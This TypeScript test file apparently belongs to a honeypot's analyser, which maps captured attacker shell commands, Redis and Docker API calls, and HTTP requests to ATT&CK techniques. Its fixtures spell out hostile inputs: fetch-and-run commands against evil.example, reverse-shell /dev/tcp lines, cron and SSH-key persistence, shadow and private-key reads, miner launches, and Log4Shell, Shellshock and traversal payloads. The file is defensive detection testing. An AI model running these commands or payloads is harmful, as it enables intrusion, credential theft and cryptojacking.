import { describe, expect, it } from 'vitest'
import { analyseEvent } from '../../src/intel/analyse.ts'
import { ATTACK_TECHNIQUES, attackTechnique } from '../../src/intel/rules/attack.ts'
import { TECHNIQUE_RULES } from '../../src/intel/rules/techniques.ts'
import type { IntelEvent } from '../../src/intel/types.ts'
import { event, httpRequest, shellCommand } from './events.ts'

const dockerCreate = (fields: Record<string, unknown>) =>
  event('request', 'docker_api', {
    method: 'POST',
    path: '/containers/create',
    action: 'container_create',
    image: 'alpine',
    cmd: 'null',
    binds: 'null',
    privileged: false,
    ...fields,
  })
const redis = (cmd: string, args: string[]) => event('command', 'redis', { cmd, args: JSON.stringify(args) })

/** Per rule: events it must tag and near-misses it must not. */
const CASES: Record<string, { match: IntelEvent[]; miss: IntelEvent[] }> = {
  'technique.brute-force.failed-login': {
    match: [event('auth_attempt', 'ssh', { username: 'root', password: 'x', success: false })],
    miss: [event('auth_attempt', 'ssh', { username: 'root', password: 'x', success: true })],
  },
  'technique.valid-accounts.login': {
    match: [event('auth_attempt', 'telnet', { username: 'admin', password: 'x', success: true })],
    miss: [event('auth_attempt', 'telnet', { username: 'admin', password: 'x', success: false })],
  },
  'technique.unix-shell.command': {
    match: [shellCommand('ls'), shellCommand('id', 'telnet'), shellCommand('uname -a', 'ssh-exec')],
    // A protocol verb is no shell command
    miss: [redis('GET', ['x']), event('command', 'ftp', { verb: 'LIST', arg: '' })],
  },
  'technique.ingress.fetch-command': {
    match: [
      shellCommand('wget http://10.0.0.9/xmrig -O /tmp/x'),
      shellCommand('cd /tmp; curl -fsSL https://evil.example/a.sh | sh'),
      shellCommand('tftp -g -r mips 198.51.100.4'),
      shellCommand('exec 3<>/dev/tcp/198.51.100.4/80'),
    ],
    miss: [shellCommand('curl --version'), shellCommand('wget'), shellCommand('echo wget')],
  },
  'technique.ingress.download': {
    match: [event('download', 'ssh', { url: 'http://10.0.0.9/miner', sha256: 'a'.repeat(64), size: 10 })],
    miss: [event('download', 'ssh', { size: 10 })],
  },
  'technique.ingress.upload': {
    match: [
      event('upload', 'ssh', { via: 'scp', path: '/tmp', name: 'bot', bytes: 1234, sha256: 'b'.repeat(64) }),
      event('upload', 'ftp', { username: 'u', path: 'x.bin', bytes: 0, sha256: 'c'.repeat(64) }),
    ],
    miss: [event('download_attempt', 'ftp', { username: 'u', path: 'x.bin', found: false })],
  },
  'technique.cron.crontab': {
    match: [
      shellCommand('(crontab -l; echo "* * * * * /tmp/x") | crontab -'),
      shellCommand('echo "*/5 * * * * root /tmp/x" >> /etc/crontab'),
      shellCommand('cp x /etc/cron.hourly/'),
    ],
    miss: [shellCommand('cat /etc/hosts'), shellCommand('echo cronos')],
  },
  'technique.cron.cron-job': {
    // As the decoy shell records `(crontab -l; echo JOB) | crontab -`
    match: [
      event('cron_job', 'ssh', {
        username: 'root',
        via: 'crontab',
        source: 'stdin',
        jobs: '@reboot /tmp/.x/run',
      }),
    ],
    miss: [event('cron_job', 'ssh', { username: 'root', via: 'crontab', source: 'stdin', jobs: '' })],
  },
  'technique.cron.redis-dir': {
    match: [redis('CONFIG', ['SET', 'dir', '/var/spool/cron/'])],
    miss: [redis('CONFIG', ['SET', 'dir', '/tmp']), redis('SET', ['k', '/var/spool/cron'])],
  },
  'technique.ssh-keys.authorized-keys': {
    match: [
      shellCommand('echo "ssh-rsa AAAA x" >> ~/.ssh/authorized_keys'),
      shellCommand('chattr -ia .ssh/authorized_keys2'),
    ],
    miss: [shellCommand('ls ~/.ssh'), shellCommand('cat /etc/ssh/sshd_config')],
  },
  'technique.ssh-keys.redis-dir': {
    match: [redis('CONFIG', ['SET', 'dir', '/root/.ssh'])],
    miss: [redis('CONFIG', ['GET', 'maxmemory'])],
  },
  'technique.account.create': {
    match: [shellCommand('useradd -m -s /bin/bash sysadm'), shellCommand('sudo adduser backup')],
    miss: [shellCommand('cat /etc/passwd | grep useradd'), shellCommand('id')],
  },
  'technique.systemd.service': {
    match: [
      shellCommand('cat > /etc/systemd/system/kworker.service <<EOF'),
      shellCommand('systemctl enable kworker'),
    ],
    miss: [shellCommand('systemctl status sshd'), shellCommand('ls /etc/systemd')],
  },
  'technique.discovery.system-info': {
    match: [
      shellCommand('uname -a'),
      shellCommand('cat /proc/cpuinfo | grep name | wc -l'),
      shellCommand('nproc'),
      shellCommand('cat /etc/os-release'),
      shellCommand('free -m'),
    ],
    miss: [shellCommand('echo unamed'), shellCommand('cd /tmp')],
  },
  'technique.discovery.owner': {
    match: [shellCommand('whoami'), shellCommand('id'), shellCommand('w'), shellCommand('cd /; who')],
    miss: [shellCommand('echo id'), shellCommand('cat /tmp/w.txt'), shellCommand('widget')],
  },
  'technique.discovery.local-accounts': {
    match: [shellCommand('cat /etc/passwd'), shellCommand('getent passwd')],
    miss: [shellCommand('passwd'), shellCommand('cat /etc/group')],
  },
  'technique.discovery.network-config': {
    match: [
      shellCommand('ifconfig'),
      shellCommand('ip a'),
      shellCommand('ip route show'),
      shellCommand('cat /etc/resolv.conf'),
    ],
    miss: [shellCommand('zip archive.zip x'), shellCommand('echo ip')],
  },
  'technique.discovery.network-services': {
    match: [shellCommand('nmap -sS 10.0.0.0/24'), shellCommand('./masscan -p22 10.0.0.0/8 --rate 10000')],
    miss: [shellCommand('cat nmap.txt'), shellCommand('echo masscan')],
  },
  'technique.discovery.remote-systems': {
    match: [shellCommand('ping -c 1 10.0.0.7'), shellCommand('arp -a'), shellCommand('cat /etc/hosts')],
    miss: [shellCommand('ping'), shellCommand('cat /etc/hostname')],
  },
  'technique.lateral.ssh': {
    match: [
      shellCommand('ssh root@10.0.0.7'),
      shellCommand('sshpass -p x ssh -o StrictHostKeyChecking=no admin@db01'),
    ],
    miss: [shellCommand('ssh -V'), shellCommand('cat ~/.ssh/known_hosts'), shellCommand('ssh-keygen -t rsa')],
  },
  'technique.sudo': {
    match: [shellCommand('sudo -l'), shellCommand('cat /etc/sudoers')],
    miss: [shellCommand('echo sudo'), shellCommand('sudo')],
  },
  'technique.interpreter.python': {
    match: [
      shellCommand('python3 -c "import pty;pty.spawn(\'/bin/bash\')"'),
      shellCommand('python -m http.server 8000'),
    ],
    miss: [shellCommand('python3 --version'), shellCommand('which python')],
  },
  'technique.discovery.network-connections': {
    match: [shellCommand('netstat -antp'), shellCommand('ss -tulpn')],
    miss: [shellCommand('echo netstat'), shellCommand('sshd -t')],
  },
  'technique.discovery.process': {
    match: [shellCommand('ps aux'), shellCommand('ps -ef | grep miner'), shellCommand('top -bn1')],
    miss: [shellCommand('grep ps file'), shellCommand('echo top'), shellCommand('psql')],
  },
  'technique.discovery.files': {
    match: [shellCommand('ls -la'), shellCommand('cd /tmp && ls'), shellCommand('find / -name "*.conf"')],
    miss: [shellCommand('echo ls'), shellCommand('lsblk2')],
  },
  'technique.history.clear': {
    match: [
      shellCommand('history -c'),
      shellCommand('unset HISTFILE'),
      shellCommand('rm -rf ~/.bash_history'),
      shellCommand('export HISTFILE=/dev/null'),
      shellCommand('ln -sf /dev/null ~/.bash_history'),
    ],
    miss: [shellCommand('history'), shellCommand('cat ~/.bash_history')],
  },
  'technique.file-deletion': {
    match: [shellCommand('rm -f /tmp/x'), shellCommand('cd /tmp; rm -rf *')],
    miss: [shellCommand('echo rm'), shellCommand('rmdir /tmp/x')],
  },
  'technique.permissions.chmod': {
    match: [
      shellCommand('chmod +x xmrig'),
      shellCommand('chmod 777 /tmp/.x'),
      shellCommand('chattr +i /etc/passwd'),
    ],
    miss: [shellCommand('echo chmod'), shellCommand('ls -l')],
  },
  'technique.defenses.disable': {
    match: [
      shellCommand('setenforce 0'),
      shellCommand('ufw disable'),
      shellCommand('iptables -F'),
      shellCommand('systemctl stop firewalld'),
    ],
    miss: [shellCommand('ufw status'), shellCommand('iptables -L')],
  },
  'technique.decode.base64': {
    match: [shellCommand('echo ZWNobyBoaQ== | base64 -d | sh'), shellCommand('base64 --decode x')],
    miss: [shellCommand('base64 file'), shellCommand('echo base64')],
  },
  'technique.private-keys': {
    match: [shellCommand('cat ~/.ssh/id_rsa'), shellCommand('cat /etc/ssh/ssh_host_ed25519_key')],
    miss: [shellCommand('cat ~/.ssh/id_rsa.pub'), shellCommand('ls ~/.ssh')],
  },
  'technique.shadow': {
    match: [shellCommand('cat /etc/shadow'), shellCommand('unshadow passwd shadow')],
    miss: [shellCommand('cat /etc/shadowsocks.json'), shellCommand('cat /etc/passwd')],
  },
  'technique.resource-hijacking.miner': {
    match: [
      shellCommand('./xmrig -o stratum+tcp://pool.supportxmr.com:3333 -u 4A...'),
      shellCommand('nohup ./kdevtmpfsi &'),
      shellCommand('./run --donate-level 1'),
    ],
    miss: [shellCommand('./backup.sh'), shellCommand('cat miner-notes.txt')],
  },
  'technique.resource-hijacking.miner-cron': {
    match: [
      event('cron_job', 'ssh', {
        via: 'crontab',
        jobs: '* * * * * /tmp/.x/xmrig -o stratum+tcp://10.0.0.9:3333',
      }),
    ],
    miss: [event('cron_job', 'ssh', { via: 'crontab', jobs: '0 3 * * * /usr/local/bin/backup.sh' })],
  },
  'technique.resource-hijacking.miner-download': {
    match: [event('download', 'ssh', { url: 'http://10.0.0.9/xmrig', sha256: 'a'.repeat(64) })],
    miss: [event('download', 'ssh', { url: 'http://10.0.0.9/backup.tar', sha256: 'a'.repeat(64) })],
  },
  'technique.resource-hijacking.miner-file': {
    match: [
      event('download', 'ssh', { url: 'http://10.0.0.9/a', filename: 'xmrig', sha256: 'a'.repeat(64) }),
      event('upload', 'ssh', { via: 'scp', name: 'cpuminer', filename: 'cpuminer', bytes: 5 }),
    ],
    miss: [event('download', 'ssh', { url: 'http://10.0.0.9/a', filename: 'backup.tar' })],
  },
  'technique.container.deploy': {
    match: [dockerCreate({ image: 'alpine', cmd: '["sh","-c","wget http://198.51.100.4/x|sh"]' })],
    miss: [event('request', 'docker_api', { method: 'GET', path: '/version', action: null })],
  },
  'technique.container.escape-privileged': {
    match: [dockerCreate({ image: 'alpine', privileged: true })],
    miss: [dockerCreate({ image: 'alpine', privileged: false })],
  },
  'technique.container.escape-host-mount': {
    match: [
      dockerCreate({ binds: '["/:/mnt"]' }),
      dockerCreate({ binds: '["/var/run/docker.sock:/var/run/docker.sock"]' }),
    ],
    miss: [dockerCreate({ binds: '["/srv/data:/data"]' }), dockerCreate({ binds: 'null' })],
  },
  'technique.ingress.redis-rogue-master': {
    match: [redis('SLAVEOF', ['198.51.100.4', '21000']), redis('REPLICAOF', ['evil.example.top', '6379'])],
    miss: [redis('SLAVEOF', ['NO', 'ONE']), redis('INFO', ['replication'])],
  },
  'technique.scanning.probe': {
    match: [event('scan', 'http', { reason: 'malformed_http', error: 'bad_request_line' })],
    miss: [event('connect', 'http', { local_port: 80 })],
  },
  'technique.scanning.scanner-user-agent': {
    match: [
      httpRequest({
        user_agent: 'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)',
      }),
      httpRequest({ user_agent: 'masscan/1.3 (https://github.com/robertdavidgraham/masscan)' }),
    ],
    miss: [httpRequest({ user_agent: 'curl/8.5.0' })],
  },
  'technique.scanning.vulnerability-scanner': {
    match: [
      httpRequest({ user_agent: 'sqlmap/1.7.2#stable (https://sqlmap.org)' }),
      httpRequest({ user_agent: 'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)' }),
    ],
    miss: [httpRequest({ user_agent: 'Mozilla/5.0 (X11; Linux x86_64)' })],
  },
  'technique.scanning.wordlist': {
    match: [
      httpRequest({ user_agent: 'gobuster/3.6' }),
      httpRequest({ user_agent: 'Fuzz Faster U Fool v2.1.0' }),
    ],
    miss: [httpRequest({ user_agent: 'Go-http-client/1.1' })],
  },
  'technique.exploit.http-payload': {
    match: [
      httpRequest({ path: '/?id=1%20UNION%20ALL%20SELECT%20NULL,NULL--' }),
      httpRequest({ path: '/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh', method: 'POST', body: 'echo;id' }),
      // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell payload, not a template
      httpRequest({ headers: JSON.stringify({ 'user-agent': '${jndi:ldap://198.51.100.4:1389/a}' }) }),
      httpRequest({ headers: JSON.stringify({ 'user-agent': '() { :; }; /bin/bash -c "id"' }) }),
      httpRequest({
        path: '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
        method: 'POST',
        body: '<?php echo md5("x");',
      }),
      httpRequest({ path: '/shell?cd+/tmp;wget+http://198.51.100.4/x.sh' }),
      httpRequest({ path: '/page?file=../../../../etc/passwd' }),
    ],
    miss: [
      httpRequest({ path: '/index.html' }),
      httpRequest({ path: '/search?q=select+a+colour' }),
      httpRequest({ path: '/docs/../index.html' }),
    ],
  },
}

describe('ATT&CK technique rules', () => {
  it('every rule has positive and negative cases and tags a technique the catalogue names', () => {
    expect(Object.keys(CASES).sort()).toEqual(TECHNIQUE_RULES.map((rule) => rule.id).sort())
    for (const rule of TECHNIQUE_RULES) expect(attackTechnique(rule.technique), rule.id).toBeDefined()
  })

  it('the catalogue covers the techniques the issue names, each with a name and a tactic', () => {
    const required = [
      'T1110',
      'T1110.001',
      'T1110.003',
      'T1059.004',
      'T1105',
      'T1053.003',
      'T1098.004',
      'T1082',
    ]
    const more = ['T1033', 'T1016', 'T1057', 'T1083', 'T1070.003', 'T1496', 'T1190', 'T1595']
    for (const id of [...required, ...more]) {
      const technique = attackTechnique(id)
      expect(technique?.name, id).toMatch(/\w/)
      expect(technique?.tactics.length, id).toBeGreaterThan(0)
    }
    expect(new Set(ATTACK_TECHNIQUES.map((t) => t.id)).size).toBe(ATTACK_TECHNIQUES.length)
  })

  for (const rule of TECHNIQUE_RULES) {
    it(`${rule.id} tags ${rule.technique} on its cases and not on near misses`, () => {
      const cases = CASES[rule.id]
      expect(cases, `no cases for ${rule.id}`).toBeDefined()
      if (!cases) return
      for (const positive of cases.match) {
        const hit = analyseEvent(positive).techniques.find((technique) => technique.ruleId === rule.id)
        expect(hit, JSON.stringify(positive.fields)).toMatchObject({ technique: rule.technique })
      }
      for (const negative of cases.miss) {
        expect(
          analyseEvent(negative).techniques.map((technique) => technique.ruleId),
          JSON.stringify(negative.fields),
        ).not.toContain(rule.id)
      }
    })
  }

  it('the acceptance session: download a miner and add a cron job tags T1105, T1053.003 and T1496', () => {
    const session = [
      shellCommand('wget http://172.20.0.9:8080/xmrig -O /tmp/.x/xmrig'),
      shellCommand('chmod +x /tmp/.x/xmrig'),
      shellCommand(
        '(crontab -l 2>/dev/null; echo "@reboot /tmp/.x/xmrig -o stratum+tcp://172.20.0.9:3333") | crontab -',
      ),
    ]
    const tagged = new Set(session.flatMap((e) => analyseEvent(e).techniques.map((t) => t.technique)))
    for (const id of ['T1059.004', 'T1105', 'T1053.003', 'T1496', 'T1222.002']) expect(tagged).toContain(id)
  })
})
